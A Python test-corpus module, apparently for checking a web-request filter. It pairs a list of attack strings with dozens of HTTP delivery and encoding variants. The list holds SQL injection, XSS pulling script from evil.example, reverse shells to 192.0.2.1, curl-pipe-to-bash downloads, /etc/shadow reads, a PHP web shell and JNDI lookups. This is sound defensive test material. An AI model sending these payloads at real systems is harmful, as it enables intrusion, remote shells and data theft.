"""Attacks, and the ways in which a request can carry them.

A delivery is a function from the attack to the bytes that are sent. Each belongs to a place (an argument of the query, its
name, a form field, ...) that has a plain delivery: rules that do not find an attack there are not expected to find it in
the other deliveries of the place.
"""

import base64
import gzip
import json
import quopri
import zlib
from dataclasses import dataclass, field
from urllib.parse import quote, quote_plus

# The bound of bodies while the corpus runs, and that of items (crates/http/src/bound.rs).
BODY_LIMIT = 64 << 10
ITEMS = 10_000

ATTACKS = """
1' OR '1'='1' --
1 UNION SELECT username, password FROM users
1; DROP TABLE users --
' UNION ALL SELECT NULL,NULL,version() --
1 AND SLEEP(5)
1' AND 1=CAST((SELECT version()) AS int) --
admin' --
') OR ('a'='a
1 OR BENCHMARK(10000000,MD5(1))
1' WAITFOR DELAY '0:0:5' --
1; EXEC xp_cmdshell('dir') --
-1' UNION SELECT table_name FROM information_schema.tables --
1 AND extractvalue(1,concat(0x7e,version()))
1' AND (SELECT COUNT(*) FROM sysobjects) > 0 --
'; SHUTDOWN --
1' OR SLEEP(5)#
1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64
1' INTO OUTFILE '/var/www/shell.php' --
1' AND pg_sleep(5) --
1 PROCEDURE ANALYSE(extractvalue(rand(),concat(0x3a,version())),1)
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(document.cookie)>
<iframe src=javascript:alert(1)>
"><script src=//evil.example/x.js></script>
<body onload=alert(1)>
<a href="javascript:alert(1)">x</a>
<object data="data:text/html;base64,PHNjcmlwdD4=">
<details open ontoggle=alert(1)>
<math><mtext><script>alert(1)</script>
<video><source onerror=alert(1)>
<style>@import 'javascript:alert(1)';</style>
<input autofocus onfocus=alert(1)>
<embed src="javascript:alert(1)">
;cat /etc/passwd
| cat /etc/shadow
$(cat /etc/passwd)
`wget http://evil.example/x.sh`
; nc -e /bin/sh 192.0.2.1 4444
&& curl http://evil.example/x | bash
; bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
;python3 -c 'import os;os.system("id")'
() { :; }; /bin/bash -c 'cat /etc/passwd'
& powershell.exe -nop -c "IEX(New-Object Net.WebClient)"
| dir C:\\windows\\system32
../../../../etc/passwd
..\\..\\..\\windows\\win.ini
/etc/shadow
../../../../proc/self/environ
/var/www/../../etc/passwd
<?php system($_GET['c']); ?>
php://filter/convert.base64-encode/resource=index.php
O:8:"stdClass":1:{s:1:"a";i:1;}
base64_decode('c3lzdGVtKCdpZCcp');eval($x);
${jndi:ldap://evil.example/a}
${${lower:j}ndi:ldap://evil.example/a}
java.lang.Runtime.getRuntime().exec("id")
T(java.lang.Runtime).getRuntime()
require('child_process').exec('id')
{"__proto__":{"polluted":"constructor.prototype"}}
""".strip().split("\n")
# The lines are in a plain literal, so that a backslash is written twice.
HARMLESS = "red shoes"

FORM, JSON, XML = "application/x-www-form-urlencoded", "application/json", "application/xml"
HOST = "app.example"
BROWSER = [
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    ("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
]


@dataclass(frozen=True)
class Http2:
    """A request over HTTP/2: header fields in order, and DATA frames."""

    fields: tuple
    data: tuple = ()


@dataclass
class Delivery:
    place: str
    name: str
    build: object
    answer: int = 0
    """The answer that counts, of those on the connection."""


@dataclass
class Corpus:
    deliveries: list = field(default_factory=list)

    def add(self, place, name, build, answer=0):
        self.deliveries.append(Delivery(place, name, build, answer))


def octets(text):
    return text if isinstance(text, bytes) else text.encode()


def every_byte(text):
    return "".join(f"%{byte:02x}" for byte in octets(text))


def request(method="GET", target="/", fields=(), body=None, version="HTTP/1.1", host=HOST, length=True, close=True):
    lines = [b"%s %s %s" % (octets(method), octets(target), octets(version))]
    head = ([("Host", host)] if host is not None else []) + BROWSER + list(fields)
    if body is not None and length:
        head.append(("Content-Length", str(len(octets(body)))))
    if close:
        head.append(("Connection", "close"))
    lines += [octets(name) + b": " + octets(value) for name, value in head]
    return b"\r\n".join(lines) + b"\r\n\r\n" + octets(body or b"")


def post(kind, body, *fields, method="POST", target="/", **more):
    kinds = kind if isinstance(kind, list) else [kind]
    head = [("Content-Type", one) for one in kinds if one is not None]
    return request(method, target, head + list(fields), body, **more)


def chunks(body, size, extension=b"", end=b"\r\n", trailer=b"", last=b"0"):
    body = octets(body)
    pieces = [body[at : at + size] for at in range(0, len(body), size)]
    return b"".join(b"%x%s%s%s\r\n" % (len(p), extension, end, p) for p in pieces) + last + b"\r\n" + trailer + b"\r\n"


def chunked(kind, body, size=7, **more):
    return post(kind, chunks(body, size, **more), ("Transfer-Encoding", "chunked"), length=False)


def http2(method, path, fields=(), data=(), authority=HOST):
    pseudo = [(":method", method), (":scheme", "http"), (":authority", authority), (":path", path)]
    head = [pair for pair in pseudo if pair[1] is not None]
    lower = [(name.lower(), value) for name, value in [*BROWSER, *fields]]
    return Http2(tuple(head + lower), tuple(octets(piece) for piece in data))


def queries(corpus):
    def get(name, target, **more):
        corpus.add("query", name, lambda a: request("GET", target(a), **more))

    q = quote_plus
    get("plain", lambda a: "/?q=" + q(a))
    get("after another argument", lambda a: "/?a=1&q=" + q(a))
    get("every byte escaped", lambda a: "/?q=" + every_byte(a))
    get("every byte escaped in capitals", lambda a: "/?q=" + every_byte(a).upper())
    get("blanks as %20", lambda a: "/?q=" + quote(a))
    name = lambda name, target: corpus.add("query name", name, lambda a: request("GET", target(a)))
    name("plain", lambda a: "/?" + q(a) + "=1")
    name("without =", lambda a: "/?" + q(a))
    name("every byte escaped", lambda a: "/?" + every_byte(a) + "=1")
    name("after #", lambda a: "/?a=1#&" + q(a) + "=1")
    corpus.add("query key", "plain", lambda a: request("GET", "/?x[" + q(a) + "]=1"))
    corpus.add("query key", "escaped", lambda a: request("GET", "/?x%5b" + q(a) + "%5d=1"))
    get("name empty", lambda a: "/?=" + q(a))
    get("name escaped", lambda a: "/?%71=" + q(a))
    get("name with brackets", lambda a: "/?q[]=" + q(a))
    get("name with a key", lambda a: "/?q[x][y]=" + q(a))
    get("name with a dot and blank", lambda a: "/?q.a%20b=" + q(a))
    get("name with NUL", lambda a: "/?q%00z=" + q(a))
    get("name of 4 KB", lambda a: "/?" + "n" * 4096 + "=" + q(a))
    get("repeated, first harmless", lambda a: "/?q=1&q=" + q(a))
    get("repeated, last harmless", lambda a: "/?q=" + q(a) + "&q=1")
    get("semicolon as separator", lambda a: "/?a=1;q=" + q(a))
    get("two question marks", lambda a: "/??q=" + q(a))
    get("question mark in a value", lambda a: "/?a=?&q=" + q(a))
    get("empty pairs before", lambda a: "/?" + "&" * 100 + "q=" + q(a))
    get("value after NUL", lambda a: "/?q=%00" + q(a))
    get("value before NUL", lambda a: "/?q=" + q(a) + "%00")
    get("value after a line end", lambda a: "/?q=x%0d%0a" + q(a))
    get("value after 8 KB", lambda a: "/?q=" + "x" * 8192 + "+" + q(a))
    get("invalid escape before", lambda a: "/?q=%zz" + q(a))
    get("invalid escape at the end", lambda a: "/?q=" + q(a) + "%")
    get("invalid UTF-8 before", lambda a: "/?q=%ff" + q(a))
    get("with BOM", lambda a: "/?q=%ef%bb%bf" + q(a))
    get("after #", lambda a: "/?a=1#&q=" + q(a))
    get("# in the value", lambda a: "/?q=x#" + q(a))
    get("# before ?", lambda a: "/#?q=" + q(a))
    get("%23 before", lambda a: "/?a=%23&q=" + q(a))
    get("absolute target", lambda a: f"http://{HOST}/?q=" + q(a))
    get("absolute target of another host", lambda a: "http://lax.example/?q=" + q(a))
    get("absolute target with user", lambda a: f"http://user@{HOST}/?q=" + q(a))
    get("path with a parameter", lambda a: "/x;a=b?q=" + q(a))
    get("path with dots", lambda a: "/a/../?q=" + q(a))
    get("path with slashes", lambda a: "//a//?q=" + q(a))
    get("HTTP/1.0", lambda a: "/?q=" + q(a), version="HTTP/1.0")
    get("HTTP/1.0 without Host", lambda a: "/?q=" + q(a), version="HTTP/1.0", host=None)
    get("Host with port", lambda a: "/?q=" + q(a), host=HOST + ":80")
    get("Host with a final dot", lambda a: "/?q=" + q(a), host=HOST + ".")
    get("Host in capitals", lambda a: "/?q=" + q(a), host=HOST.upper())
    corpus.add("query", "HTTP/0.9", lambda a: b"GET /?q=" + octets(q(a)) + b"\r\n")
    for number in (ITEMS - 1, ITEMS):
        get(f"after {number:,} arguments", lambda a, n=number: "/?" + "a&" * n + "q=" + q(a))
    for method in ("HEAD", "DELETE", "OPTIONS", "PROPFIND", "FOO", "get"):
        corpus.add("query", f"method {method}", lambda a, m=method: request(m, "/?q=" + q(a)))
    corpus.add("query", "POST without a body", lambda a: request("POST", "/?q=" + q(a), body=""))
    corpus.add(
        "query",
        "WebSocket handshake",
        lambda a: request(
            "GET",
            "/?q=" + q(a),
            [("Upgrade", "websocket"), ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="), ("Sec-WebSocket-Version", "13")],
        ).replace(b"Connection: close", b"Connection: Upgrade"),
    )
    corpus.add(
        "query",
        "second of two requests",
        lambda a: request("GET", "/?q=1", close=False) + request("GET", "/?q=" + q(a)),
        answer=1,
    )
    corpus.add("query", "after an empty line", lambda a: b"\r\n" + request("GET", "/?q=" + q(a)))
    corpus.add("query", "line ends without CR", lambda a: request("GET", "/?q=" + q(a)).replace(b"\r\n", b"\n"))
    corpus.add("query", "HTTP/2", lambda a: http2("GET", "/?q=" + q(a)))
    corpus.add("query", "HTTP/2, other Host", lambda a: http2("GET", "/?q=" + q(a), [("host", "lax.example")]))
    corpus.add("query", "HTTP/2, # in the path", lambda a: http2("GET", "/?a=1#&q=" + q(a)))


def forms(corpus):
    def form(name, body, kind=FORM, *fields, **more):
        corpus.add("form", name, lambda a: post(kind, body(a), *fields, **more))

    q = quote_plus
    plain = lambda a: "a=1&q=" + q(a)
    form("plain", plain)
    form("every byte escaped", lambda a: "q=" + every_byte(a))
    form("nothing escaped that need not be", lambda a: "q=" + quote(a, safe=" '\"<>()[]{}|\\/:,;!*$`@^~?"))
    name = lambda name, body: corpus.add("form name", name, lambda a: post(FORM, body(a)))
    name("plain", lambda a: q(a) + "=1")
    corpus.add("form key", "plain", lambda a: post(FORM, "x[" + q(a) + "]=1"))
    name("JSON without =", lambda a: '{"q":"' + q(a) + '"}')
    form("name with brackets", lambda a: "q[a][]=" + q(a))
    form("name with NUL", lambda a: "q%00=" + q(a))
    form("repeated", lambda a: "q=1&q=" + q(a))
    form("after a line end", lambda a: "\r\nq=" + q(a))
    form("with BOM", lambda a: "\ufeffq=" + q(a))
    form("# before", lambda a: "a=1#&q=" + q(a))
    form("semicolon as separator", lambda a: "a=1;q=" + q(a))
    form("invalid escape before", lambda a: "a=%&q=%u" + q(a))
    form("in _charset_", lambda a: "_charset_=utf-7&q=" + q(a))
    for number in (ITEMS - 1, ITEMS, ITEMS + 1):
        form(f"after {number:,} fields", lambda a, n=number: "a&" * n + "q=" + q(a))
    form("after 10,000 times &", lambda a: "&" * ITEMS + "q=" + q(a))
    for more in (-1, 0, 1):
        name = f"body of the limit {more:+d}" if more else "body of the limit"
        form(name, lambda a, m=more: plain(a) + "&z=" + "z" * (BODY_LIMIT + m - len(plain(a)) - 3))
    form("after the limit", lambda a: "z=" + "z" * BODY_LIMIT + "&" + plain(a))
    form("across the limit", lambda a: "z=" + "z" * (BODY_LIMIT - 10) + "&" + plain(a))
    for kind in (
        FORM + " x",
        FORM + ";",
        FORM + "; charset=utf-8",
        FORM + ";charset=UTF-8;charset=utf-16",
        FORM + "; charset=utf-16",
        FORM + "; charset=utf-7",
        FORM + "; charset=ibm037",
        FORM + "; boundary=B",
        FORM + ", " + JSON,
        FORM + "\t",
        FORM + "\t; x",
        FORM + "\"",
        FORM.upper(),
        "Application/X-WWW-Form-Urlencoded",
        "  " + FORM,
        FORM + "/x",
        "application/ x-www-form-urlencoded",
        "*/*",
        "text/plain",
        "form",
    ):
        form(f"Content-Type {kind!r}", plain, kind)
    form("no Content-Type", plain, None)
    form("empty Content-Type", plain, "")
    form("Content-Type JSON, then form", plain, [JSON, FORM])
    form("Content-Type form, then JSON", plain, [FORM, JSON])
    form("Content-Type form, then text", plain, [FORM, "text/plain"])
    form("Content-Type text, then form", plain, ["text/plain", FORM])
    form("Content-Type twice the same", plain, [FORM, FORM])
    form("Content-Type form, then empty", plain, [FORM, ""])
    form("Content-Type in lower case", plain, None, ("content-type", FORM))
    form("Content-Type folded", plain, "application/\r\n x-www-form-urlencoded")
    form("Content-Type with _", plain, "text/plain", ("Content_Type", FORM))
    for method in ("PUT", "PATCH", "DELETE", "GET", "OPTIONS", "PROPFIND"):
        form(f"method {method}", plain, method=method)
    form("method override", plain, FORM, ("X-HTTP-Method-Override", "PUT"))
    form("Expect: 100-continue", plain, FORM, ("Expect", "100-continue"))
    form("HTTP/1.0", plain, version="HTTP/1.0")
    for name, coding, encode in (
        ("gzip", "gzip", gzip.compress),
        ("x-gzip", "x-gzip", gzip.compress),
        ("GZIP", "GZIP", gzip.compress),
        ("deflate", "deflate", zlib.compress),
        ("bare deflate", "deflate", lambda body: zlib.compress(body)[2:-4]),
        ("identity", "identity", bytes),
        ("unknown", "x-unknown", bytes),
        ("gzip twice", "gzip, gzip", lambda body: gzip.compress(gzip.compress(body))),
        ("gzip that is not", "gzip", bytes),
    ):
        form(f"Content-Encoding {name}", lambda a, e=encode: e(octets(plain(a))), FORM, ("Content-Encoding", coding))
    for name, more in (
        ("", {}),
        (" of one byte", {"size": 1}),
        (" with an extension", {"extension": b";x=y"}),
        (" with a long extension", {"extension": b";" + b"x" * 500}),
        (" with a trailer", {"trailer": b"X-A: b\r\n"}),
        (" with a final 000", {"last": b"000"}),
        (" with bare line ends", {"end": b"\n"}),
        (" with blanks", {"extension": b"  "}),
    ):
        corpus.add("form", "chunks" + name, lambda a, m=more: chunked(FORM, plain(a), **m))
    corpus.add(
        "form",
        "chunks and a length",
        lambda a: post(FORM, chunks(plain(a), 9), ("Transfer-Encoding", "chunked"), ("Content-Length", "5"), length=False),
    )
    for coding in ("Chunked", "identity, chunked", "chunked, identity", "\tchunked", "xchunked"):
        corpus.add(
            "form",
            f"Transfer-Encoding {coding!r}",
            lambda a, c=coding: post(FORM, chunks(plain(a), 9), ("Transfer-Encoding", c), length=False),
        )
    corpus.add(
        "form",
        "second of two requests",
        lambda a: post(FORM, "q=1", close=False) + post(FORM, plain(a)),
        answer=1,
    )
    corpus.add("form", "HTTP/2", lambda a: http2("POST", "/", [("Content-Type", FORM)], [plain(a)]))
    corpus.add(
        "form",
        "HTTP/2 in frames of a byte",
        lambda a: http2("POST", "/", [("Content-Type", FORM)], [octets(plain(a))[i : i + 1] for i in range(len(plain(a)))]),
    )


def jsons(corpus):
    def body(name, build, kind=JSON, *fields, **more):
        corpus.add("json", name, lambda a: post(kind, build(a), *fields, **more))

    text = lambda a: json.dumps(a)
    escaped = lambda a: '"' + "".join(f"\\u{ord(c):04x}" for c in a) + '"'
    plain = lambda a: '{"a": 1, "q": ' + text(a) + "}"
    body("plain", plain)
    body("in a list", lambda a: f"[1, [{text(a)}]]")
    body("a text alone", text)
    name = lambda name, body: corpus.add("json name", name, lambda a: post(JSON, body(a)))
    name("plain", lambda a: "{" + text(a) + ": 1}")
    name("escaped", lambda a: "{" + escaped(a) + ": 1}")
    name("of an object within", lambda a: '{"a": [{' + text(a) + ": {}}]}")
    body("every byte escaped", lambda a: '{"q": ' + escaped(a) + "}")
    body("in capitals escaped", lambda a: '{"q": "' + "".join(f"\\u{ord(c):04X}" for c in a) + '"}')
    body("name escaped", lambda a: '{"\\u0071": ' + text(a) + "}")
    body("name empty", lambda a: '{"": ' + text(a) + "}")
    body("name repeated, first harmless", lambda a: '{"q": 1, "q": ' + text(a) + "}")
    body("name repeated, last harmless", lambda a: '{"q": ' + text(a) + ', "q": 1}')
    body("name of 4 KB", lambda a: '{"' + "n" * 4096 + '": ' + text(a) + "}")
    body("blanks around", lambda a: "\r\n\t " + plain(a) + "\n\n")
    body("with BOM", lambda a: "\ufeff" + plain(a))
    body("NaN before", lambda a: '{"a": NaN, "q": ' + text(a) + "}")
    body("Infinity before", lambda a: '{"a": -Infinity, "q": ' + text(a) + "}")
    body("comment before", lambda a: '/* x */ {"q": ' + text(a) + "}")
    body("line comment within", lambda a: '{// x\n"q": ' + text(a) + "}")
    body("trailing comma", lambda a: '{"q": ' + text(a) + ",}")
    body("single quotes", lambda a: "{'a': 1, 'q': " + text(a) + "}")
    body("names without quotes", lambda a: "{a: 1, q: " + text(a) + "}")
    body("number with leading zero before", lambda a: '{"a": 01, "q": ' + text(a) + "}")
    body("hexadecimal number before", lambda a: '{"a": 0x1, "q": ' + text(a) + "}")
    body("number of 400 digits before", lambda a: '{"a": ' + "9" * 400 + ', "q": ' + text(a) + "}")
    body("second document", lambda a: '{"a": 1} ' + plain(a))
    body("first of two documents", lambda a: plain(a) + ' {"a": 1}')
    body("text after", lambda a: plain(a) + " x")
    body("end missing", lambda a: '{"q": ' + text(a))
    body("invalid UTF-8 before", lambda a: b'{"a": "\xff", "q": ' + octets(text(a)) + b"}")
    body("overlong UTF-8 before", lambda a: b'{"a": "\xc0\xaf", "q": ' + octets(text(a)) + b"}")
    body("lone surrogate before", lambda a: '{"a": "\\ud800", "q": ' + text(a) + "}")
    body("invalid escape before", lambda a: '{"a": "\\x41", "q": ' + text(a) + "}")
    body("control character before", lambda a: '{"a": "\x01\n", "q": ' + text(a) + "}")
    body("NUL before", lambda a: '\x00{"q": ' + text(a) + "}")
    body("NUL in the text", lambda a: '{"q": "\\u0000' + text(a)[1:] + "}")
    body("NUL after", lambda a: plain(a) + "\x00")
    for coding in ("utf-16-le", "utf-16-be", "utf-16", "utf-32-le", "utf-32-be", "utf-32"):
        body(f"in {coding}", lambda a, c=coding: plain(a).encode(c))
    for depth in (127, 128, 600):
        body(f"{depth} levels deep", lambda a, d=depth: "[" * d + text(a) + "]" * d)
    body("deep before", lambda a: '{"a": ' + "[" * 600 + "]" * 600 + ', "q": ' + text(a) + "}")
    for number in (ITEMS - 1, ITEMS):
        body(f"after {number:,} numbers", lambda a, n=number: "[" + "1," * n + text(a) + "]")
    body("after the limit", lambda a: '{"z": "' + "z" * BODY_LIMIT + '", "q": ' + text(a) + "}")
    for kind in (
        JSON + "; charset=utf-8",
        JSON + "; charset=utf-16",
        JSON + "; charset=utf-7",
        JSON + ";",
        JSON + " x",
        JSON + ", text/plain",
        "text/plain, " + JSON,
        "Application/JSON",
        "application/vnd.api+json",
        "application/x+json; x=y",
        "text/json",
        "application/json5",
        "application/x-json",
        "application/jsonp",
        "application/csp-report",
        "json",
        "text/plain",
    ):
        body(f"Content-Type {kind!r}", plain, kind)
    body("Content-Type form, then JSON", plain, [FORM, JSON])
    body("Content-Type JSON, then text", plain, [JSON, "text/plain"])
    body("Content-Encoding gzip", lambda a: gzip.compress(octets(plain(a))), JSON, ("Content-Encoding", "gzip"))
    body("Content-Encoding br", plain, JSON, ("Content-Encoding", "br"))
    body("method PUT", plain, method="PUT")
    corpus.add("json", "chunks", lambda a: chunked(JSON, plain(a)))
    corpus.add("json", "HTTP/2", lambda a: http2("POST", "/", [("Content-Type", JSON)], [plain(a)]))


def part(disposition, value, *fields, end=b"\r\n"):
    lines = [b"Content-Disposition: " + octets(disposition), *[octets(line) for line in fields], b""]
    return end.join(lines) + end + octets(value) + end


def multiparts(corpus):
    kind = "multipart/form-data; boundary=B"

    def parts(name, build, kind=kind, place="multipart", end=b"--B--\r\n", start=b"", line=b"--B\r\n"):
        def message(a):
            pieces = build(a)
            pieces = pieces if isinstance(pieces, list) else [pieces]
            return start + b"".join(line + piece for piece in pieces) + end

        corpus.add(place, name, lambda a: post(kind, message(a)))

    value = lambda d, *f: lambda a: part(d, a, *f)
    named = 'form-data; name="q"'
    parts("plain", value(named))
    for disposition in (
        "form-data; name=q",
        "form-data; name='q'",
        'form-data; name="q"; size=5',
        'form-data; size=5; name="q"',
        'form-data; name="q";',
        'form-data;name="q"',
        'form-data ; name = "q"',
        'form-data; name="a"; name="q"',
        'form-data; NAME="q"',
        'Form-Data; name="q"',
        'form-data; name="q\\"x"',
        'form-data; name="q%22x"',
        'form-data; name="q\x00x"',
        'form-data; name=""',
        "form-data; name*=utf-8''q",
        "form-data; name=\"q\"; name*=utf-8''x",
        'form-data; name="q',
        'form-data; name="q"x',
        'form-data; name="q"; filename',
        'form-data; name="q"; filename=',
        'form-data; name="q"; filename=""',
        "form-data; name=\"q\"; filename*=utf-8''x",
        'attachment; name="q"',
        'inline; name="q"',
        'name="q"',
        'form-data, name="q"',
        'form-data; name="q[]"',
    ):
        parts(f"Content-Disposition {disposition!r}", value(disposition))
    parts("a part without a name before", lambda a: [part("form-data", "x"), part(named, a)])
    parts("two Content-Dispositions", lambda a: part('form-data; name="x"', a, f"Content-Disposition: {named}"))
    parts("Content-Disposition after another field", lambda a: b"Content-Type: text/plain\r\n" + part(named, a))
    parts("Content-Disposition in capitals", lambda a: part(named, a).replace(b"Content-Disposition", b"CONTENT-DISPOSITION"))
    parts("Content-Disposition with a blank", lambda a: part(named, a).replace(b"Disposition:", b"Disposition :"))
    parts("Content-Disposition without a blank", lambda a: part(named, a).replace(b": ", b":"))
    parts("Content-Disposition folded", lambda a: part('form-data;\r\n name="q"', a))
    parts("Content-Disposition missing", lambda a: b"Content-Type: text/plain\r\n\r\n" + octets(a) + b"\r\n")
    parts("no header at all", lambda a: b"\r\n" + octets(a) + b"\r\n")
    parts("NUL in the header", lambda a: part(named, a, b"X-A: \x00b"))
    parts("line without a colon in the header", lambda a: part(named, a, "nonsense"))
    for field in (
        "Content-Type: text/plain; charset=utf-8",
        "Content-Type: text/plain; charset=utf-16",
        "Content-Type: text/plain; charset=utf-7",
        "Content-Type: application/json",
        "Content-Transfer-Encoding: 8bit",
        "X-Long: " + "x" * 5000,
    ):
        parts("part with " + field[:60], value(named, field))
    parts(
        "part in base64",
        lambda a: part(named, base64.b64encode(octets(a)), "Content-Transfer-Encoding: base64"),
    )
    parts(
        "part in quoted-printable",
        lambda a: part(named, quopri.encodestring(octets(a)), "Content-Transfer-Encoding: quoted-printable"),
    )
    parts("repeated, first harmless", lambda a: [part(named, "1"), part(named, a)])
    parts("repeated, last harmless", lambda a: [part(named, a), part(named, "1")])
    name = lambda name, disposition: parts(name, lambda a: part(disposition(a), "1"), place="multipart name")
    name("plain", lambda a: 'form-data; name="' + a.replace('"', "%22") + '"')
    name("name and name*", lambda a: f"form-data; name=\"q\"; name*=utf-8''{quote(a, safe='')}")
    name("NAME", lambda a: 'form-data; NAME="' + a.replace('"', "%22") + '"')
    parts("line ends without CR", lambda a: part(named, a, end=b"\n"), line=b"--B\n", end=b"--B--\n")
    parts("header with bare line ends", lambda a: part(named, a).replace(b"\r\n\r\n", b"\n\n"))
    parts("header ends without CR", lambda a: part(named, a).replace(b'"q"\r\n', b'"q"\n'))
    parts("bare CR before the header", lambda a: b"\r" + part(named, a))
    parts("bare CR in the header", lambda a: part(named, a, b"X-A: b\rc"))
    parts("blank after the boundary", lambda a: part(named, a), line=b"--B \r\n")
    parts("tab after the boundary", lambda a: part(named, a), line=b"--B\t\r\n")
    parts("text after the boundary", lambda a: part(named, a), line=b"--Bx\r\n")
    parts("blank before the boundary", lambda a: part(named, a), line=b" --B\r\n")
    parts("preamble", lambda a: part(named, a), start=b"preamble\r\n")
    parts("line end first", lambda a: part(named, a), start=b"\r\n")
    parts("bare line end first", lambda a: part(named, a), start=b"\n")
    parts("preamble with a boundary within", lambda a: part(named, a), start=b"x--B\r\n")
    parts("epilogue", lambda a: part(named, a), end=b"--B--\r\nepilogue")
    parts("part after the end", lambda a: part('form-data; name="a"', "1"), end=b"--B--\r\n--B\r\n")
    corpus.add(
        "multipart",
        "attack after the end",
        lambda a: post(kind, b"--B\r\n" + part('form-data; name="a"', "1") + b"--B--\r\n--B\r\n" + part(named, a) + b"--B--\r\n"),
    )
    parts("no final boundary", lambda a: part(named, a), end=b"")
    parts("final boundary without dashes", lambda a: part(named, a), end=b"--B\r\n")
    parts("final boundary with one dash", lambda a: part(named, a), end=b"--B-\r\n")
    parts("final boundary without a line end", lambda a: part(named, a), end=b"--B--")
    parts("boundary in the value", lambda a: part(named, "--Bx\r\n" + a))
    parts("a part of another boundary before", lambda a: [part('form-data; name="a"', "--C\r\nx"), part(named, a)])
    for text in (
        'multipart/form-data; boundary="B"',
        "multipart/form-data; Boundary=B",
        "multipart/form-data; BOUNDARY=B",
        "multipart/form-data; boundary=B;",
        "multipart/form-data; boundary=B; charset=utf-8",
        "multipart/form-data; charset=utf-16; boundary=B",
        "multipart/form-data; x=\"boundary=A\"; boundary=B",
        "multipart/form-data; boundary=A; boundary=B",
        "multipart/form-data; boundary=B; boundary=A",
        "multipart/form-data; boundary =B",
        "multipart/form-data; boundary= B",
        "multipart/form-data; boundary=B x",
        "multipart/form-data; boundary=B, C",
        "multipart/form-data boundary=B",
        "multipart/form-data, boundary=B",
        "multipart/form-data;boundary=B",
        "multipart/form-data; xboundary=A; boundary=B",
        "multipart/form-data; boundary*=utf-8''B",
        "multipart/form-data; boundary='B'",
        "Multipart/Form-Data; boundary=B",
        "multipart/mixed; boundary=B",
        "multipart/related; boundary=B",
        "multipart/x; boundary=B",
    ):
        parts(f"Content-Type {text!r}", value(named), text)
    for length in (70, 71, 200):
        boundary = "b" * length
        parts(
            f"boundary of {length} bytes",
            value(named),
            f"multipart/form-data; boundary={boundary}",
            line=b"--" + octets(boundary) + b"\r\n",
            end=b"--" + octets(boundary) + b"--\r\n",
        )
    parts("boundary empty", value(named), "multipart/form-data; boundary=", line=b"--\r\n", end=b"----\r\n")
    parts("boundary missing", value(named), "multipart/form-data")
    corpus.add("multipart", "Content-Type twice", lambda a: post([kind, "multipart/form-data; boundary=A"], b"--B\r\n" + part(named, a) + b"--B--\r\n"))
    corpus.add("multipart", "Content-Type form, then multipart", lambda a: post([FORM, kind], b"--B\r\n" + part(named, a) + b"--B--\r\n"))
    corpus.add(
        "multipart",
        "nested multipart/mixed",
        lambda a: post(
            kind,
            b'--B\r\nContent-Disposition: form-data; name="q"\r\nContent-Type: multipart/mixed; boundary=C\r\n\r\n--C\r\n'
            b"Content-Disposition: attachment\r\n\r\n" + octets(a) + b"\r\n--C--\r\n--B--\r\n",
        ),
    )
    for number in (ITEMS - 1, ITEMS):
        empty = b'--B\r\nContent-Disposition: form-data; name=a\r\n\r\n\r\n'
        corpus.add(
            "multipart",
            f"after {number:,} parts",
            lambda a, n=number: post(kind, empty * n + b"--B\r\n" + part(named, a) + b"--B--\r\n"),
        )
    corpus.add(
        "multipart",
        "after the limit",
        lambda a: post(kind, b"--B\r\n" + part('form-data; name="z"', "z" * BODY_LIMIT) + b"--B\r\n" + part(named, a) + b"--B--\r\n"),
    )
    corpus.add("multipart", "chunks", lambda a: chunked(kind, b"--B\r\n" + part(named, a) + b"--B--\r\n"))
    corpus.add("multipart", "HTTP/2", lambda a: http2("POST", "/", [("Content-Type", kind)], [b"--B\r\n" + part(named, a) + b"--B--\r\n"]))

    quoted = lambda a: a.replace("\\", "\\\\").replace('"', '\\"')
    file = lambda name, disposition: parts(name, lambda a: part(disposition(a), "x", "Content-Type: text/plain"), place="file")
    file("plain", lambda a: f'form-data; name="f"; filename="{quoted(a)}"')
    file("plain, filename first", lambda a: f'form-data; filename="{quoted(a)}"; name="f"')
    file("FILENAME", lambda a: f'form-data; name="f"; FILENAME="{quoted(a)}"')
    file("filename repeated", lambda a: f'form-data; name="f"; filename="x"; filename="{quoted(a)}"')
    file = lambda name, disposition: parts(
        name, lambda a: part(disposition(a), "x", "Content-Type: text/plain"), place="filename*"
    )
    file("plain", lambda a: f"form-data; name=\"f\"; filename*=utf-8''{quote(a, safe='')}")
    file("filename*0*", lambda a: f"form-data; name=\"f\"; filename*0*=utf-8''{quote(a, safe='')}")
    file("filename and filename*", lambda a: f"form-data; name=\"f\"; filename=\"x\"; filename*=utf-8''{quote(a, safe='')}")


def xmls(corpus):
    from xml.sax.saxutils import escape, quoteattr

    def body(name, build, kind=XML, *fields):
        corpus.add("xml", name, lambda a: post(kind, build(a), *fields))

    head = '<?xml version="1.0"?>'
    plain = lambda a: f"{head}<a><b>1</b><q>{escape(a)}</q></a>"
    cdata = lambda a: f"<![CDATA[{a}]]>"
    body("plain", plain)
    body("without declaration", lambda a: f"<a>{escape(a)}</a>")
    body("in CDATA", lambda a: f"<a>{cdata(a)}</a>")
    body("split by CDATA", lambda a: f"<a>{escape(a[:5])}{cdata(a[5:])}</a>")
    body("split by a comment", lambda a: f"<a>{escape(a[:5])}<!-- x -->{escape(a[5:])}</a>")
    body("split by an instruction", lambda a: f"<a>{escape(a[:5])}<?x y?>{escape(a[5:])}</a>")
    body("split by an element", lambda a: f"<a>{escape(a[:5])}<b/>{escape(a[5:])}</a>")
    body("after a comment", lambda a: f"<a><!-- <q>1</q> -->{escape(a)}</a>")
    body("as decimal references", lambda a: "<a>" + "".join(f"&#{ord(c)};" for c in a) + "</a>")
    body("as hexadecimal references", lambda a: "<a>" + "".join(f"&#x{ord(c):x};" for c in a) + "</a>")
    attribute = lambda name, build: corpus.add("xml attribute", name, lambda a: post(XML, build(a)))
    attribute("plain", lambda a: f"<a q={quoteattr(a)}/>")
    attribute("as references", lambda a: '<a q="' + "".join(f"&#x{ord(c):x};" for c in a) + '"/>')
    attribute("of a namespace", lambda a: f'<a xmlns:n="urn:x" n:q={quoteattr(a)}/>')
    body("in an element of a namespace", lambda a: f'<n:a xmlns:n="urn:x">{escape(a)}</n:a>')
    entity = lambda a: escape(a, {'"': "&quot;", "%": "&#37;", "'": "&apos;", "&": "&amp;"})
